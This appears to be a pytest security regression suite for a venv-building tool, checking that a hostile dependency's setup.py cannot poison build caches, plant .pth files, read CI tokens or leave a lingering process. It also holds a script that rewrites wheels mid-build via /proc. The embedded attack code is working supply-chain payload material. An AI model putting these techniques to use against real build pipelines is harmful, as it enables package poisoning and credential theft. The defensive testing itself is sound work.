"""A dependency's build code, attacked from inside the build (#20).

Before #20, a root build ran a dependency's ``setup.py`` as uid 0 with every capability dropped,
which still writes every file root owns: the build cache, the builder venvs, pip's wheel cache.
Reproduced: build ``demo`` 1.0; build a recipe whose dependency ``evil`` rewrites the stored
resolutions; the next ``demo`` 1.1 build (the same inputs, so the stored answer) locked (and
with ``--sign-key`` signed) an sdist of the attacker's. The same route went through a ``.pth``
planted in the shared builder venv, through the wheel cache, and through a process the build
code left behind to strike after the build.

Here ``evil``'s setup.py makes each attempt as the real thing would, knowing the cache's path
(a cache others may read, as a 0755 one is, so only ownership and modes stand in its way), and
notes in a folder anyone may write whether each attempt worked.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import subprocess
import tarfile
import tempfile
import textwrap
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.factories import make_project, make_sdist
from tests.hostfacts import PLATFORM_KEY
from tests.integration.conftest import LocalIndex
from tests.integration.install.conftest import make_wheel
from tests.needs import needs_nobody, needs_root
from venvship.artifact.documents import Manifest, VenvConfig
from venvship.builder.builduser import build_user
from venvship.cli.venvship_main import main
from venvship.oci.layout import Layout

pytestmark = [needs_root, needs_nobody]

LATE = 3  # seconds the lingering process waits before it strikes
# A CI job's environment: keys venvship never sees as its own secrets (an ecr-login credential
# helper turns the AWS keys into the registry's password).
JOB_SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "aws-secret-of-the-job",
    "CI_JOB_TOKEN": "job-token-of-the-job",
    "GITHUB_TOKEN": "github-token-of-the-job",
}

SETUP = """
import glob, json, os, shutil, subprocess, sys, sysconfig
from setuptools import setup

CACHE, REPORT, ROOT_HOME = {cache!r}, {report!r}, {root_home!r}
EVIL_SDIST, EVIL_SHA = {evil_sdist!r}, {evil_sha!r}
EVIL_WHEEL, EVIL_WHEEL_SHA = {evil_wheel!r}, {evil_wheel_sha!r}
MARK = {mark!r}


def note(what, attempt):
    try:
        attempt()
        result = "worked"
    except OSError as exc:
        result = type(exc).__name__
    with open(os.path.join(REPORT, "attempts"), "a") as fh:
        fh.write(what + " " + result + "\\n")


def resolutions():
    folder = os.path.join(CACHE, "resolutions")
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        with open(path) as fh:
            data = json.load(fh)
        for item in data["packages"]:
            if item["name"] == "alpha":
                item.update(spec="alpha @ file://" + EVIL_SDIST, source="sdist:sha256:" + EVIL_SHA,
                            sha256=EVIL_SHA, kind="sdist")
        with open(path, "w") as fh:
            json.dump(data, fh)


def pth():
    line = "import os; open(%r, 'a').write('ran as %%d\\\\n' %% os.getuid())\\n" % os.path.join(REPORT, "pth-ran")
    folders = [sysconfig.get_paths()["purelib"], *glob.glob(CACHE + "/builders/*/lib/python*/site-packages")]
    for folder in folders:
        with open(os.path.join(folder, "zz_evil.pth"), "w") as fh:
            fh.write(line)


def wheel_cache():
    sources = os.path.join(CACHE, "wheels", "sources")
    for name in os.listdir(sources):
        path = os.path.join(sources, name)
        with open(path) as fh:
            data = json.load(fh)
        if data["name"] == "alpha":
            folder = os.path.join(CACHE, "wheels", "sha256", EVIL_WHEEL_SHA)
            os.makedirs(folder, exist_ok=True)
            shutil.copy(EVIL_WHEEL, folder)
            data.update(sha256=EVIL_WHEEL_SHA, size=os.path.getsize(EVIL_WHEEL))
            with open(path, "w") as fh:
                json.dump(data, fh)


def pip_cache():
    folder = os.path.join(ROOT_HOME, ".cache", "pip", "wheels", "planted")
    os.makedirs(folder, exist_ok=True)
    shutil.copy(EVIL_WHEEL, folder)


with open(os.path.join(REPORT, "environ.json"), "w") as fh:
    json.dump(dict(os.environ), fh)
note("resolutions", resolutions)
note("pth", pth)
note("wheel-cache", wheel_cache)
note("pip-cache", pip_cache)
# Left behind: out of the process group (setsid), to strike once the build is over.
late = "import sys, time; time.sleep(%d); open(sys.argv[1], 'w').write('struck')" % {late}
subprocess.Popen([sys.executable, "-c", late, os.path.join(REPORT, "late"), MARK],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
setup(name="evil", version="1.0", packages=["evil"])
"""


@dataclass(frozen=True)
class Aftermath:
    cache: Path
    report: Path
    root_home: Path
    mark: str
    genuine: str  # sha256 of the alpha wheel demo 1.0 locked
    locked: str  # sha256 of the alpha wheel demo 1.1 locked after the attack
    evil_wheel: str
    resolutions_before: dict[str, bytes]
    resolutions_after: dict[str, bytes]

    def attempts(self) -> list[str]:
        return (self.report / "attempts").read_text().splitlines()


def _recipe(folder: Path, name: str, version: str, packages: list[str], links: list[Path]) -> Path:
    pip_args = ["--no-index", *(arg for link in links for arg in ("--find-links", str(link)))]
    body = textwrap.dedent(
        f"""\
        [venv]
        name = "{name}"
        version = "{version}"
        install-path = "/opt/venvs/{name}"
        packages = {json.dumps(packages)}
        build-requirements = ["setuptools", "wheel"]

        [venv.build]
        pip-args = {json.dumps(pip_args)}
        """
    )
    path = folder / f"{name}-{version}.toml"
    path.write_text(body)
    return path


def _alpha(out: Path, version: str) -> str:
    """Return the sha256 of the alpha wheel that demo ``version`` locked."""
    layout = Layout.open(out)
    manifest = Manifest.from_bytes(layout.read_blob(layout.resolve(f"demo:{version}-{PLATFORM_KEY}").digest))
    config = VenvConfig.from_json(json.loads(layout.read_blob(manifest.config.digest)))
    return next(w.sha256 for w in config.lock if w.name == "alpha")


def _hostile_sdist(dest: Path, setup_py: str) -> Path:
    """Write the sdist of ``evil`` 1.0 by hand: a build backend would run its setup.py here."""
    dest.mkdir()
    files = {
        "PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        "setup.py": setup_py,
        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
        "evil/__init__.py": "",
    }
    path = dest / "evil-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"evil-1.0/{name}")
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    return path


def _build(recipe: Path, cache: Path, out: Path) -> None:
    argv = ["build", str(recipe), "--output", f"oci:{out}", "--cache-dir", str(cache), "--no-distro-packages"]
    assert main(argv) == 0


@pytest.fixture(scope="module")
def aftermath(tmp_path_factory: pytest.TempPathFactory, local_index: LocalIndex) -> Aftermath:
    root = tmp_path_factory.mktemp("build-code")
    root.chmod(0o755)
    cache = root / "cache"
    cache.mkdir(mode=0o755)  # others may read it: only ownership and modes keep them out
    cache.chmod(0o755)
    report = root / "report"
    report.mkdir()
    report.chmod(0o777)
    root_home = root / "root-home"  # root's HOME during the builds: where pip kept its wheel cache
    root_home.mkdir(mode=0o755)
    root_home.chmod(0o755)
    # The attacker's alpha: an sdist and a wheel that say EVIL.
    evil_projects, evil_dist = root / "evil-projects", root / "evil-dist"
    project = make_project(evil_projects, "alpha", "1.1", deps=["beta>=2"])
    (project / "alpha" / "__init__.py").write_text("EVIL = True\n")
    evil_sdist = make_sdist(project, evil_dist / "sdist")
    evil_wheel = make_wheel(evil_dist / "wheel", "alpha", "1.1", body="EVIL = True")
    mark = f"venvship-lingering-{uuid.uuid4().hex}"
    hostile_dist = root / "hostile-dist"
    _hostile_sdist(
        hostile_dist,
        SETUP.format(
            cache=str(cache),
            report=str(report),
            root_home=str(root_home),
            evil_sdist=str(evil_sdist),
            evil_sha=hashlib.sha256(evil_sdist.read_bytes()).hexdigest(),
            evil_wheel=str(evil_wheel),
            evil_wheel_sha=hashlib.sha256(evil_wheel.read_bytes()).hexdigest(),
            mark=mark,
            late=LATE,
        ),
    )
    for folder in (evil_projects, evil_dist, evil_dist / "sdist", evil_dist / "wheel", hostile_dist):
        folder.chmod(0o755)
    recipes, out = root / "recipes", root / "oci"
    recipes.mkdir()
    saved = {name: os.environ.get(name) for name in ("HOME", *JOB_SECRETS)}
    os.environ["HOME"] = str(root_home)
    try:
        _build(_recipe(recipes, "demo", "1.0", ["alpha"], [local_index.dist]), cache, out)
        before = {p.name: p.read_bytes() for p in (cache / "resolutions").iterdir()}
        os.environ.update(JOB_SECRETS)  # the job's own: venvship is given none of them
        evil = _recipe(recipes, "evil", "1.0", ["evil"], [local_index.dist, hostile_dist])
        evil.write_text(evil.read_text() + 'env = {BUILD_KNOB = "on"}\n')
        _build(evil, cache, out)
        for name in JOB_SECRETS:
            del os.environ[name]
        time.sleep(LATE + 1)  # what was left behind has had its time
        after = {p.name: p.read_bytes() for p in (cache / "resolutions").iterdir() if p.name in before}
        _build(_recipe(recipes, "demo", "1.1", ["alpha"], [local_index.dist]), cache, out)
    finally:
        for name, value in saved.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value
    return Aftermath(
        cache=cache,
        report=report,
        root_home=root_home,
        mark=mark,
        genuine=_alpha(out, "1.0"),
        locked=_alpha(out, "1.1"),
        evil_wheel=hashlib.sha256(evil_wheel.read_bytes()).hexdigest(),
        resolutions_before=before,
        resolutions_after=after,
    )


def test_build_code_cannot_rewrite_the_stored_resolutions(aftermath: Aftermath) -> None:
    tries = [line for line in aftermath.attempts() if line.startswith("resolutions ")]
    assert tries and all(line.endswith("PermissionError") for line in tries), tries
    assert aftermath.resolutions_after == aftermath.resolutions_before
    assert aftermath.locked == aftermath.genuine  # the next build of another recipe locks the genuine alpha


def test_build_code_cannot_plant_a_pth_in_a_builder_venv(aftermath: Aftermath) -> None:
    tries = [line for line in aftermath.attempts() if line.startswith("pth ")]
    assert tries and all(line.endswith("PermissionError") for line in tries), tries
    assert not list(aftermath.cache.glob("builders/*/lib/python*/site-packages/zz_evil.pth"))
    assert not (aftermath.report / "pth-ran").exists()


def test_build_code_cannot_write_the_wheel_caches(aftermath: Aftermath) -> None:
    tries = [line for line in aftermath.attempts() if line.startswith(("wheel-cache ", "pip-cache "))]
    assert {line.split()[0] for line in tries} == {"wheel-cache", "pip-cache"}
    assert all(line.endswith("PermissionError") for line in tries), tries
    assert not (aftermath.cache / "wheels" / "sha256" / aftermath.evil_wheel).exists()
    assert not (aftermath.root_home / ".cache" / "pip" / "wheels" / "planted").exists()
    assert aftermath.locked != aftermath.evil_wheel


def test_build_code_gets_none_of_the_jobs_tokens(aftermath: Aftermath) -> None:
    seen = json.loads((aftermath.report / "environ.json").read_text())
    leaked = {name for name, value in seen.items() if value in JOB_SECRETS.values()}
    assert leaked == set(), leaked
    assert seen["BUILD_KNOB"] == "on"  # the recipe's build env still reaches it
    assert seen["HOME"] != str(aftermath.root_home) and seen.get("PATH")


def test_build_code_leaves_no_process_behind(aftermath: Aftermath) -> None:
    lingering = []
    for proc in Path("/proc").iterdir():
        try:
            if aftermath.mark.encode() in (proc / "cmdline").read_bytes():
                lingering.append(proc.name)
        except OSError:
            continue
    assert lingering == []
    assert not (aftermath.report / "late").exists()


def test_a_build_requirements_pth_never_runs_as_root(
    tmp_path_factory: pytest.TempPathFactory, local_index: LocalIndex
) -> None:
    """A build requirement's ``.pth`` runs whenever the builder venv's python starts: as the build
    user in the build, never as root (uv's check of the install pip-args once asked that python
    about itself, as root)."""
    root = tmp_path_factory.mktemp("pth-build")
    root.chmod(0o755)
    report = root / "report"
    report.mkdir()
    report.chmod(0o777)
    line = f"import os; open({str(report / 'ran')!r}, 'a').write('%d\\n' % os.getuid())\n"
    links = root / "links"
    make_wheel(links, "planted", "1.0", extra={"zz_planted.pth": line})
    links.chmod(0o755)
    recipe = _recipe(root, "demo", "1.0", ["alpha"], [local_index.dist, links])
    text = recipe.read_text().replace('"wheel"]', '"wheel", "planted"]\ninstall-tool = "uv"')
    recipe.write_text(text + '\n[venv.install]\npip-args = ["--no-progress"]\n')
    _build(recipe, root / "cache", root / "oci")
    uids = (report / "ran").read_text().split()
    assert uids and "0" not in uids, uids  # it ran, and only as the build user


# Another build's code, or any service that runs as the build user: it finds each wheel build's
# outbox in the command lines of root's children (anyone may read them) and rewrites the wheel
# there before root takes it.
NEIGHBOUR = """
import os, sys, time
evil_path, report, seconds, tmp = sys.argv[1:5]
with open(evil_path, "rb") as fh:
    evil = fh.read()
open(os.path.join(report, "ready"), "w").close()
deadline, looked, outboxes = time.monotonic() + float(seconds), 0.0, set()
while time.monotonic() < deadline:
    if time.monotonic() - looked > 0.05:
        looked = time.monotonic()
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as fh:
                    words = fh.read().decode(errors="replace").split("\\0")
            except OSError:
                continue
            # Only the test's own build (the machine may run others).
            outboxes.update(b for a, b in zip(words, words[1:]) if a == "-w" and b.startswith(tmp + "/venvship-build-"))
    for box in list(outboxes):
        try:
            names = [n for n in os.listdir(box) if n.startswith("alpha-") and n.endswith(".whl")]
        except OSError:
            outboxes.discard(box)
            continue
        for name in names:
            try:
                with open(os.path.join(box, name), "r+b") as fh:
                    if fh.read() != evil:
                        fh.seek(0)
                        fh.write(evil)
                        fh.truncate()
                        with open(os.path.join(report, "rewritten"), "a") as note:
                            note.write(name + "\\n")
            except OSError:
                pass
    time.sleep(0.001)
"""


def test_a_build_refuses_while_another_process_runs_as_the_build_user(
    tmp_path_factory: pytest.TempPathFactory, local_index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every process of one user reaches every other's files (and, by ptrace, its memory): a
    process of the build user that this build did not start could change what it makes."""
    root = tmp_path_factory.mktemp("neighbour")
    root.chmod(0o755)
    report = root / "report"
    report.mkdir()
    report.chmod(0o777)
    links = root / "links"
    evil = make_wheel(links, "alpha", "1.1", body="EVIL = True")  # the version the build makes
    links.chmod(0o755)
    argv = [str(evil), str(report), "120", tempfile.gettempdir()]
    ids = build_user()
    assert ids is not None
    uid, gid = ids
    neighbour = subprocess.Popen(
        [
            "setpriv",
            f"--reuid={uid}",
            f"--regid={gid}",
            "--clear-groups",
            "/usr/bin/python3",
            "-c",
            NEIGHBOUR,
            *argv,
        ]
    )
    try:
        deadline = time.monotonic() + 30
        while not (report / "ready").exists():
            assert time.monotonic() < deadline and neighbour.poll() is None, "the neighbour did not start"
            time.sleep(0.05)
        out = root / "oci"
        recipe = _recipe(root, "demo", "1.0", ["alpha"], [local_index.dist])
        argv = [
            "build",
            str(recipe),
            "--output",
            f"oci:{out}",
            "--cache-dir",
            str(root / "cache"),
            "--no-distro-packages",
        ]
        code = main(argv)
        if code == 0:
            locked = _alpha(out, "1.0")
            evil_sha = hashlib.sha256(evil.read_bytes()).hexdigest()
            pytest.fail(f"built beside the neighbour; alpha locked {locked} (the neighbour's: {evil_sha})")
    finally:
        neighbour.kill()
        neighbour.wait()
    assert code == 1
    err = capsys.readouterr().err.strip().splitlines()[-1]
    assert err.startswith(f"venvship: error: VENVSHIP_BUILD_USER: uid {uid} also runs processes"), err
    assert str(neighbour.pid) in err or ", …)" in err  # the first few are named
    index = out / "index.json"
    assert not index.exists() or "demo:" not in index.read_text()  # nothing of it was written
